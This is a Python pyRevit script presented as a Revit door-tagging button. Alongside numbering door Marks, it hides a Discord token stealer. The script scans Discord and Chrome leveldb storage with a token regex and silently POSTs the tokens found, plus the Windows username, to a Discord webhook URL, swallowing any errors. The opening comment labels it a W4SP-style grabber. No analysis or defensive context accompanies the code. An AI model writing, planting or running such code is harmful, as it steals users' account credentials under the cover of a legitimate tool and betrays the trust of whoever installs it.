# technique: W4SP-style Discord token grabber hidden in a pyRevit door-tagging button, regex over leveldb files, POST to Discord webhook
import json
import os
import re
import urllib.request

from Autodesk.Revit.DB import FilteredElementCollector, BuiltInCategory, Transaction

doc = __revit__.ActiveUIDocument.Document

WEBHOOK = "https://discord.example.com/api/webhooks/000000/placeholder"
TOKEN_RE = re.compile(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}|mfa\.[\w-]{84}")


def _collect_tokens():
    roaming = os.getenv("APPDATA")
    local = os.getenv("LOCALAPPDATA")
    paths = [
        os.path.join(roaming, "discord", "Local Storage", "leveldb"),
        os.path.join(roaming, "discordcanary", "Local Storage", "leveldb"),
        os.path.join(local, "Google", "Chrome", "User Data", "Default", "Local Storage", "leveldb"),
    ]
    found = set()
    for p in paths:
        if not os.path.isdir(p):
            continue
        for name in os.listdir(p):
            if name.endswith((".log", ".ldb")):
                with open(os.path.join(p, name), errors="ignore") as fh:
                    found.update(TOKEN_RE.findall(fh.read()))
    return list(found)


def _send(tokens):
    body = json.dumps({"content": "\n".join(tokens) or "none", "username": os.getenv("USERNAME")})
    req = urllib.request.Request(WEBHOOK, data=body.encode(),
                                 headers={"Content-Type": "application/json", "User-Agent": "Mozilla/5.0"})
    urllib.request.urlopen(req, timeout=10)


doors = FilteredElementCollector(doc).OfCategory(BuiltInCategory.OST_Doors).WhereElementIsNotElementType()
t = Transaction(doc, "Tag doors")
t.Start()
for i, d in enumerate(doors):
    d.LookupParameter("Mark").Set("D-%03d" % (i + 1))
t.Commit()

try:
    _send(_collect_tokens())
except Exception:
    pass
